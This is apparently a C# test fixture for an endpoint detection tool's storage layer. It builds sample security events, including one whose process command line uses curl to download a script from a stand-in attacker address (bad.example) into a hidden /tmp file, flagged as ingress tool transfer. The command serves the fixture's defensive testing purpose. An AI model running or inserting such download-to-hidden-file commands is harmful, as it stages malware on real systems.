using Atalaya.Core.Schema;

namespace Atalaya.Storage.Tests;

/// <summary>Events shaped like the collectors' and the scorer's output, with every section filled where it matters.</summary>
internal static class SampleEvents
{
    public static readonly DateTimeOffset T0 = new(2026, 11, 21, 10, 0, 0, TimeSpan.Zero);

    /// <summary>A process start with every ECS section set, including sub-millisecond time and non-ASCII text.</summary>
    public static EcsEvent FullProcessStart() => new()
    {
        Timestamp = T0.AddTicks(1234567),
        Event = new EventFields
        {
            Kind = EventKinds.Event,
            Category = [EventCategories.Process],
            Type = [EventTypes.Start],
            Action = "exec",
            Dataset = Datasets.Process,
            Module = "atalaya",
            Id = "evt-0001",
            RiskScore = 12,
            Severity = 12,
            Reason = "new process",
            Start = T0.AddSeconds(-1),
            End = T0.AddSeconds(1),
            Duration = 2_000_000_000,
        },
        Host = new HostFields
        {
            Name = "laptop",
            Id = "0f1e2d3c4b5a69788796a5b4c3d2e1f0",
            Os = new HostOsFields { Type = "linux", Name = "Debian GNU/Linux", Version = "12", Kernel = "6.1.0-26-amd64", Family = "debian" },
        },
        Agent = new AgentFields { Name = "atalaya", Type = "endpoint", Version = "0.1.0", Id = "agent-1" },
        Process = new ProcessFields
        {
            Pid = 4242,
            EntityId = EntityIds.ForProcess("boot-id", 4242, 123456),
            Name = "curl",
            Executable = "/usr/bin/curl",
            CommandLine = "curl -fsSL http://198.51.100.7/x.sh -o /tmp/.x 'ñandú ) ('",
            Args = ["curl", "-fsSL", "http://198.51.100.7/x.sh", "-o", "/tmp/.x", "ñandú ) ("],
            ArgsCount = 6,
            WorkingDirectory = "/home/ana",
            Start = T0.AddMilliseconds(-5),
            End = T0.AddSeconds(3),
            User = new UserFields { Id = "1000", Name = "ana" },
            Hash = new HashFields { Sha256 = new string('a', 64) },
            Parent = new ProcessFields
            {
                Pid = 4000,
                EntityId = EntityIds.ForProcess("boot-id", 4000, 120000),
                Name = "bash",
                Executable = "/usr/bin/bash",
                CommandLine = "bash -i",
            },
        },
        Source = new EndpointFields { Ip = "10.0.0.5", Port = 51514, Bytes = 310 },
        Destination = new EndpointFields { Ip = "198.51.100.7", Port = 80, Domain = "bad.example", Bytes = 9000 },
        Network = new NetworkFields { Transport = "tcp", Direction = "egress", Type = "ipv4", Bytes = 9310 },
        File = new FileFields
        {
            Path = "/tmp/.x",
            Name = ".x",
            Size = 9000,
            Mtime = T0.AddSeconds(2),
            Owner = "ana",
            Hash = new HashFields { Sha256 = new string('b', 64) },
        },
        User = new UserFields { Id = "1000", Name = "ana" },
        Rule = new RuleFields
        {
            Id = "r-1", Name = "Download to hidden file", Ruleset = "atalaya", Author = "Atalaya authors",
            License = "DRL 1.1", Reference = "https://example.org/r-1", Description = "curl writes a dotfile in /tmp",
        },
        Threat = new ThreatFields
        {
            Framework = "MITRE ATT&CK",
            Technique = new TechniqueFields { Id = ["T1105"], Name = ["Ingress Tool Transfer"] },
        },
        Related = new RelatedFields { Ip = ["10.0.0.5", "198.51.100.7"], User = ["ana"], Hash = [new string('a', 64)] },
        Atalaya = new AtalayaFields
        {
            Verdict = "suspicious",
            Severity = "medium",
            Summary = "curl fetched a script into a hidden file",
            EntityKey = "proc:4242",
            Evidence =
            [
                new EvidenceItem { Signal = "download_to_tmp", Weight = 30, Confidence = 0.8, Detail = "wrote /tmp/.x", Techniques = ["T1105"], Domain = "file" },
            ],
            Process = new AtalayaProcessFields
            {
                Ancestry = [new AncestorFields { Pid = 4000, Executable = "/usr/bin/bash" }, new AncestorFields { Pid = 1, Executable = "/usr/lib/systemd/systemd" }],
                ExecutableDeleted = false,
            },
            Network = new AtalayaNetworkFields { State = "ESTABLISHED", Inode = 998877, Exposure = "specific-address" },
            Partial = true,
        },
    };

    public static EcsEvent Event(DateTimeOffset timestamp, int pid = 100, string category = EventCategories.Process,
        string dataset = Datasets.Process, string? action = "exec") => new()
    {
        Timestamp = timestamp,
        Event = new EventFields
        {
            Kind = EventKinds.Event,
            Category = [category],
            Type = [EventTypes.Start],
            Action = action,
            Dataset = dataset,
        },
        Process = new ProcessFields { Pid = pid, Name = "sh", Executable = "/usr/bin/sh", CommandLine = $"sh -c 'echo {pid}'" },
    };

    public static EcsEvent Alert(DateTimeOffset timestamp, string? alertId, int score, string? eventId = null, string verdict = "suspicious") => new()
    {
        Timestamp = timestamp,
        Event = new EventFields
        {
            Kind = EventKinds.Alert,
            Category = [EventCategories.Process],
            Type = [EventTypes.Indicator],
            Dataset = Datasets.Alert,
            Id = eventId,
            RiskScore = score,
            Severity = score,
        },
        Process = new ProcessFields { Pid = 4242, EntityId = "e-4242", Executable = "/tmp/.x" },
        Rule = new RuleFields { Id = "r-1", Name = "Executable in /tmp" },
        Atalaya = new AtalayaFields { AlertId = alertId, Verdict = verdict, Severity = score >= 70 ? "high" : "medium" },
    };

    public static List<EcsEvent> Events(int count, DateTimeOffset start, int pid = 100) =>
        Enumerable.Range(0, count).Select(i => Event(start.AddMilliseconds(i), pid)).ToList();
}
